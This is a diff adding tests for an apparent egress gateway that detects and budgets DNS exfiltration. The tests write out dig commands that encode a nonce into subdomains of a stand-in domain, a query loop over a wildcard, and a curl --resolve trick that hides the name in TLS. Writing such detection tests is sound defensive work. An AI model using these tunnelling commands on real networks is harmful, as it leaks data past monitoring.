@@ -182,3 +182,42 @@ def test_training_on_a_small_list(tmp_path):
     lines, _ = replay("--model", tmp_path / "small", "-",
                       stdin=trace_of([("A", "build4.ci.staex.io", 0), ("A", "www.staex.io", 0), ("A", "www.exf6.net", 0)]))
     assert [line["tier"] for line in lines] == ["known", "popular", "unknown"]
+
+
+DIG = "dig +tries=1 +time=5 "
+
+
+def test_a_job_that_says_too_much_is_refused_and_told_why(world, gateway, nonce):
+    """Mode audit lets every name be resolved, but not everything be said in names."""
+    hidden = b32(nonce.encode() * 2)[:50]
+    done = gateway.run(f"{DIG}{hidden}.t.exf6.net; {DIG}+tcp {hidden[:20]}.t.exf6.net TXT; {DIG}www.exf6.net; "
+                       f"{DIG}+short echo.example", ["https://echo.example/"], policy={"mode": "audit"})
+    assert done.out.count("status: REFUSED") == 3 and "exf6.net may say 128 bits" in done.out, done
+    assert world.traces("exf6.net") == []
+    refused = done.about("exf6.net", "dns")
+    assert [r["decision"]["reason"] for r in refused] == ["exfiltration_budget"] * 3, done
+    assert refused[0]["decision"]["rule"] == "dns.exfiltration.unknown_domain_bits"
+    assert (refused[0]["dns"]["tier"], refused[0]["dns"]["key"]) == ("unknown", "exf6.net")
+    assert refused[0]["dns"]["cost_bits"] > 128 and refused[0]["dns"].get("spent_bits", 0) == 0
+    alerts = done.about("exf6.net", "alert")
+    assert len(alerts) == 1 and alerts[0]["alert"]["name"] == "dns exfiltration budget", alerts
+    assert "dns.exfiltration.unknown_domain_bits" in done.err, done
+
+
+def test_a_wildcard_says_no_more_than_its_budget(world, gateway, nonce):
+    """Each name is allowed by the policy; the names that leave are priced together."""
+    loop = f"for i in $(seq 60); do {DIG}+noall +comments {nonce[:4]}$(printf %04x $((i * 7919)) | rev).wild.example; done"
+    done = gateway.run(loop, [{"entry": "dns:*.wild.example", "dns_bits": 256}])
+    passed = [r for r in done.about("wild.example", "dns") if r["decision"]["action"] == "allow"]
+    assert 1 <= len(passed) < 20, done
+    assert max(r["dns"]["spent_bits"] for r in passed) <= 256
+    assert len(done.about("wild.example", "alert")) == 1
+
+
+def test_a_name_in_a_url_alone_is_charged_too(world, gateway, nonce):
+    """No query of the job: the name comes with TLS, to an address of an allowed one."""
+    hidden = b32(nonce.encode() * 2)[:50]
+    done = gateway.run(f"address=$(dig +short echo.example); curl -sk --resolve {hidden}.exf6.net:443:$address "
+                       f"https://{hidden}.exf6.net/; true", ["https://echo.example/"], policy={"mode": "audit"})
+    assert world.traces(hidden) == [], done
+    assert any(r["decision"]["reason"] == "exfiltration_budget" for r in done.about(hidden)), done
